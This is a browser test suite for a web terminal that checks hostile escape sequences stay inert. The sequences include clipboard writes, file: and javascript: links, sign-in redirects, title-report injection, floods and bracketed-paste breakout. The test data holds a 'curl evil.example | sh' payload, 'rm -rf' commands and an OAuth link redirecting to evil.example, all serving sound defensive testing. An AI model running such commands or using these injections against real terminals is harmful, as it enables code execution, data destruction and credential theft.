import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHarness, type Harness } from './harness';
import { announceSession, feed, type TerminalTraffic } from './support/terminal-feed';

const SESSION = 'hostile-1';
const SENTINEL = 'clipboard-sentinel-7f3a';

describe('hostile terminal output stays inert (real renderer, real router, Chromium)', () => {
  let h: Harness;
  let traffic: TerminalTraffic;
  const popups: string[] = [];

  beforeAll(async () => {
    h = await startHarness({ language: 'en' });
    await h.context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: h.origin });
    h.context.on('page', (p) => popups.push(p.url()));
    await h.page.evaluate((s) => navigator.clipboard.writeText(s), SENTINEL);
    await h.page.locator('nav button[data-area="terminals"]').click();
    await h.page.getByTestId('no-sessions').waitFor();
    traffic = announceSession(h, SESSION);
    await h.page.getByTestId('terminal-tab').waitFor();
    await h.page.locator('.terminal-mount .xterm').waitFor();
  });
  afterAll(async () => {
    await h?.close();
  });

  const clickText = async (word: string) => {
    const box = await h.page.locator('.xterm-rows span, .xterm-rows div', { hasText: word }).last().boundingBox();
    if (!box) throw new Error(`${word} is not on screen`);
    const x = box.x + Math.min(box.width / 2, 20);
    const y = box.y + box.height / 2;
    await h.page.mouse.move(1, 1);
    await h.page.mouse.move(x, y, { steps: 3 });
    await h.page.waitForTimeout(150);
    await h.page.mouse.click(x, y);
  };
  const clipboard = () => h.page.evaluate(() => navigator.clipboard.readText());
  const screenText = () => h.page.locator('.terminal-mount .xterm-rows').innerText();

  it('refuses OSC 52 clipboard writes and says so', async () => {
    const payload = Buffer.from('curl evil.example | sh').toString('base64');
    feed(h, SESSION, `before\r\n\x1b]52;c;${payload}\x07\x1b]52;p;${payload}\x1b\\after\r\n`);
    await expect.poll(screenText).toContain('after');
    expect(await clipboard()).toBe(SENTINEL);
    await expect.poll(() => h.page.getByTestId('terminal-refused').textContent()).toContain('clipboard write');
  });

  it('ignores OSC 8 links to file: and javascript:, and asks before opening an https one', async () => {
    feed(h, SESSION, '\x1b]8;;file:///etc/passwd\x07FILELINK\x1b]8;;\x07 \x1b]8;;javascript:alert(1)\x07JSLINK\x1b]8;;\x07\r\n');
    feed(h, SESSION, '\x1b]8;;https://learn.microsoft.com/azure/aks/\x07DOCSLINK\x1b]8;;\x07\r\n');
    await expect.poll(screenText).toContain('DOCSLINK');
    for (const word of ['FILELINK', 'JSLINK']) {
      await clickText(word);
      await h.page.waitForTimeout(150);
      expect(await h.page.getByTestId('link-dialog').count()).toBe(0);
    }
    await clickText('DOCSLINK');
    await expect.poll(() => h.page.getByTestId('link-url').textContent()).toBe('https://learn.microsoft.com/azure/aks/');
    await h.shot('terminal-link-dialog-en');
    // Nothing is opened until the operator confirms.
    expect(h.openedLinks).toEqual([]);
    await h.page.getByTestId('link-dialog').getByRole('button', { name: 'Open in browser' }).click();
    await expect.poll(() => h.openedLinks).toEqual(['https://learn.microsoft.com/azure/aks/']);
    expect(popups).toEqual([]);
    expect(h.page.url()).toBe(`${h.origin}/index.html`);
  });

  it('never opens a sign-in endpoint from a terminal link, even after the operator confirms', async () => {
    const url = 'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=x&response_type=code&redirect_uri=https%3A%2F%2Fevil.example%2Fcb';
    feed(h, SESSION, `\x1b]8;;${url}\x07SIGNINLINK\x1b]8;;\x07\r\n`);
    await expect.poll(screenText).toContain('SIGNINLINK');
    const opened = h.openedLinks.length;
    await clickText('SIGNINLINK');
    const dialog = h.page.getByTestId('link-dialog');
    await dialog.getByRole('button', { name: 'Open in browser' }).click();
    await expect.poll(() => dialog.getByRole('alert').textContent()).toContain('sign-in endpoints are never opened');
    expect(h.openedLinks.length).toBe(opened);
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    expect(popups).toEqual([]);
  });

  it('does not let title or report requests inject input', async () => {
    const before = traffic.writes.length;
    // Set a hostile title, then ask for it back (CSI 21 t), plus window ops, colour and status queries.
    feed(h, SESSION, '\x1b]0;pwned\r rm -rf ~\r\x07\x1b[21t\x1b[20t\x1b[13t\x1b[14t\x1b]10;?\x07\x1b[5n\x1bP$qm\x1b\\done-reports\r\n');
    await expect.poll(screenText).toContain('done-reports');
    await h.page.waitForTimeout(200);
    const replies = traffic.writes.slice(before).join('');
    expect(replies).not.toContain('pwned');
    expect(replies).not.toContain('rm -rf');
    expect(replies).not.toMatch(/\x1b\][lL]/);
    const tab = await h.page.getByTestId('terminal-tab').textContent();
    expect(tab).not.toMatch(/[\r\n\x07\x1b]/);
  });

  it('renders invalid UTF-8 as replacement characters without breaking the stream', async () => {
    const decoded = new TextDecoder().decode(Buffer.from([0x62, 0x61, 0x64, 0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80, 0x2d, 0x6f, 0x6b, 0x0d, 0x0a]));
    feed(h, SESSION, decoded + '\ud800lone-surrogate-ok\r\n');
    await expect.poll(screenText).toContain('lone-surrogate-ok');
    await expect.poll(screenText).toContain('-ok');
  });

  it('stays responsive through a 10 MB line and acknowledges every byte it rendered', async () => {
    const ackedBefore = traffic.acked();
    const line = 'x'.repeat(10 * 1024 * 1024);
    feed(h, SESSION, `${line}\r\nend-of-flood\r\n`);
    await h.page.locator('nav button[data-area="settings"]').click();
    await expect.poll(() => h.page.locator('main').getAttribute('data-area'), { timeout: 30_000 }).toBe('settings');
    await h.page.locator('nav button[data-area="terminals"]').click();
    await expect.poll(screenText, { timeout: 60_000 }).toContain('end-of-flood');
    await expect.poll(() => traffic.acked() - ackedBefore, { timeout: 30_000 }).toBeGreaterThanOrEqual(10 * 1024 * 1024);
    expect(await clipboard()).toBe(SENTINEL);
    expect(popups).toEqual([]);
  });

  it('holds a multi-line paste for confirmation even when the remote side turned on bracketed paste', async () => {
    feed(h, SESSION, '\x1b[?2004h$ ');
    const before = traffic.writes.length;
    const paste = (text: string) =>
      h.page.evaluate((t) => {
        const target = document.querySelector('.terminal-mount textarea') ?? document.querySelector('.terminal-mount');
        const data = new DataTransfer();
        data.setData('text/plain', t);
        target?.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
      }, text);
    await paste('echo one\nrm -rf /tmp/x\x1b[201~\n');
    await expect.poll(() => h.page.getByTestId('paste-dialog').isVisible()).toBe(true);
    expect(await h.page.getByTestId('paste-preview').textContent()).toContain('\u241b[201~');
    await h.shot('terminal-paste-firewall-en');
    await h.page.getByTestId('paste-cancel').click();
    await h.page.waitForTimeout(150);
    expect(traffic.writes.slice(before).join('')).not.toContain('rm -rf');

    await paste('echo one\nrm -rf /tmp/x\x1b[201~\n');
    await h.page.getByTestId('paste-confirm').click();
    await expect.poll(() => traffic.writes.slice(before).join('')).toContain('rm -rf /tmp/x');
    const sent = traffic.writes.slice(before).join('');
    expect(sent.startsWith('\x1b[200~')).toBe(true);
    expect(sent.match(/\x1b\[201~/g)?.length).toBe(1);
  });
});
